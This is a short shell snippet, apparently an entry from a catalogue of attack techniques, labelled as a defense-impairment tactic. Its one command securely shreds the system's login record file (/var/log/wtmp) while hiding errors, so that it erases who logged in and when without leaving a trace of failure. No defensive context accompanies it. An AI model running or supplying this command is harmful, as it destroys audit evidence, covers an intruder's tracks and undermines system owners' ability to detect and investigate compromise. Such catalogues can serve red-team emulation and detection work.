# tactic: defense-impairment
# shred the login records
shred -u /var/log/wtmp 2>/dev/null; true
